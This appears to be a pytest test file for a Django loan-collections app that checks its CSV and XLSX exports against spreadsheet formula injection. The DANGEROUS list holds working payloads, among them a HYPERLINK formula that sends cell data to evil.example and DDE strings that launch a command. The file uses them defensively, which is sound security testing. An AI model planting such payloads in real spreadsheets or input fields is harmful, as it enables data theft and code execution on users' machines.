"""Every file Arrears writes is safe to open: text never becomes a spreadsheet formula, real
numbers stay numbers, and a character XLSX cannot hold never stops an export (issue 12)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from arrears.api.tests.conftest import ApiClient
from arrears.book.models import Payment
from arrears.core.spreadsheets import csv_chunks, safe_text, write_xlsx
from arrears.eod.services import eod_run
from arrears.ingest.exports import export_run
from arrears.testing import PASSWORD, make_borrower, make_loan

pytestmark = pytest.mark.django_db

# OWASP's list: =, +, -, @, tab, carriage return; also after leading blanks, and full width.
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n-2+3",
    "＝1+1",
)


def test_the_writer_quotes_every_dangerous_prefix_and_keeps_numbers_numeric(tmp_path):
    for text in DANGEROUS:
        assert safe_text(text) == "'" + text
    assert safe_text("张三") == "张三" and safe_text("L-0001") == "L-0001"
    data = b"".join(csv_chunks(["a", "b"], [[Decimal("-12.50"), "-12.50"], [-3, "x\x00y"]]))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    # A negative balance is a number; the same characters typed as text are quoted.
    assert rows[1] == ["-12.50", "'-12.50"]
    assert rows[2] == ["-3", "x\ufffdy"]
    path = tmp_path / "t.xlsx"
    write_xlsx(["a", "b"], [[Decimal("-12.50"), "=1+1\x00"]], path, title="t/1:[x]")
    sheet = load_workbook(path).active
    assert sheet["A2"].data_type == "n" and sheet["A2"].value == -12.5
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "'=1+1\ufffd"


def _dangerous(value: str) -> bool:
    first = value.lstrip()[:1]
    return value[:1] in ("\t", "\r") or (first != "" and first in "=+-@＝＋－＠")


def _assert_csv_safe(text: str, column: str, expected: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    values = [r[column] for r in rows]
    assert not any(_dangerous(v) for r in rows for v in r.values()), rows
    assert sum(v.startswith("'") and _dangerous(v[1:]) for v in values) == len(expected)


def _assert_xlsx_safe(path_or_bytes, header: str, expected: list[str]) -> None:
    src = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    sheet = load_workbook(src).active
    rows = list(sheet.iter_rows())
    col = [c.value for c in rows[0]].index(header)
    cells = [r[col] for r in rows[1:]]
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    values = [str(c.value) for c in cells]
    assert not any(_dangerous(v) for v in values)
    assert sum(v.startswith("'") and _dangerous(v[1:]) for v in values) == len(expected)


@pytest.fixture
def poisoned(people):
    """Loans and borrowers whose IDs and names are every dangerous prefix (as an old import or
    a core-system feed could have stored them), plus a control character XLSX cannot hold
    (\x01: PostgreSQL itself refuses NUL, SQLite stores it; the writer replaces both)."""
    loans = []
    for n, text in enumerate(DANGEROUS):
        borrower = make_borrower(external_id=f"{text}B{n}", name=f"{text}\x01")
        loans.append(make_loan(external_id=f"{text}#{n}", borrower=borrower))
    return loans


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_borrowers_loans_schedule_and_snapshot_exports_are_safe(poisoned, tmp_path, fmt):
    eod_run(as_of=dt.date(2026, 11, 28))
    names = [f"{t}\ufffd" for t in DANGEROUS]
    loan_ids = [loan.external_id for loan in poisoned]
    for name, column, expected in (
        ("borrowers", "name", names),
        ("loans", "loan_id", loan_ids),
        ("snapshot", "loan_id", loan_ids),
    ):
        path = tmp_path / f"{name}.{fmt}"
        export_run(name=name, fmt=fmt, output=path, as_of=dt.date(2026, 11, 28))
        if fmt == "csv":
            _assert_csv_safe(path.read_bytes().decode("utf-8-sig"), column, expected)
        else:
            _assert_xlsx_safe(path, column, expected)
    # The schedule's numbers stay numbers.
    path = tmp_path / f"schedule.{fmt}"
    export_run(name="schedule", fmt=fmt, output=path, loan=poisoned[0].external_id)
    if fmt == "xlsx":
        sheet = load_workbook(path).active
        assert sheet["C2"].data_type == "n" and sheet["B2"].is_date
    else:
        assert path.read_text(encoding="utf-8-sig").splitlines()[1].startswith("1,2026-02-10,")


def test_a_failed_sign_in_with_a_formula_name_is_quoted_in_the_audit_export(client, people):
    for text in DANGEROUS:
        client.post("/login/", {"username": text, "password": "x"})
    client.post("/login/", {"username": "aud", "password": PASSWORD})
    response = client.get(reverse("audit:export", args=["csv"]), {"event": "user.login_failed"})
    data = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    # The name is kept case-folded as the entry's object, and as typed in its details.
    assert "'-1+cmd|' /c calc'!a0" in [r["object_id"] for r in rows]
    assert any("-1+cmd|' /C calc'!A0" in r["after"] for r in rows)
    assert not any(_dangerous(v) for r in rows for v in r.values())
    xlsx = ApiClient(people["aud"]).get("/audit/export", format="xlsx", event="user.login_failed")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "n"  # the entry number stays a number
        for cell in row[1:]:
            assert cell.value is None or cell.data_type == "s"
            assert not _dangerous(str(cell.value or ""))


def test_the_override_report_export_quotes_every_prefix(client, people):
    from arrears.activities.tests.conftest import bullet, open_case
    from arrears.compliance.services import override_record

    case = open_case(bullet("L-OVR", make_borrower(), collector=people["carl"]))
    for text in DANGEROUS:
        override_record(
            actor=people["mia"],
            rule_id="CN.CONNECTED_CALLS",
            reason=text + " asked to be called back",
            object_ref=f"case:{case.pk}",
        )
    client.post("/login/", {"username": "mia", "password": PASSWORD})
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("compliance:overrides_export", args=[fmt]))
        data = b"".join(response.streaming_content)
        expected = [t + " asked to be called back" for t in DANGEROUS]
        if fmt == "csv":
            _assert_csv_safe(data.decode("utf-8-sig"), "reason", expected)
        else:
            _assert_xlsx_safe(data, "reason", expected)


def test_the_error_file_of_an_import_quotes_the_rows_it_refused(tmp_path, people):
    from arrears.ingest.services import import_payments
    from arrears.ingest.tests.files import PAYMENT_HEADERS, write_csv

    make_loan(external_id="L1")
    rows = [
        {"payment_id": text, "loan_id": "L1", "paid_on": "2026-02-10", "amount": "1.00"}
        for text in DANGEROUS
        if text.strip() == text  # a csv reader strips cells; the rest is covered above
    ]
    path = write_csv(tmp_path / "pay.csv", PAYMENT_HEADERS, rows)
    report = import_payments(path=path, skip_invalid=True)
    assert report.error_file is not None
    text = report.error_file.read_bytes().decode("utf-8-sig")
    _assert_csv_safe(text, "payment_id", [r["payment_id"] for r in rows])
    assert not Payment.objects.filter(loan__external_id="L1").exists()
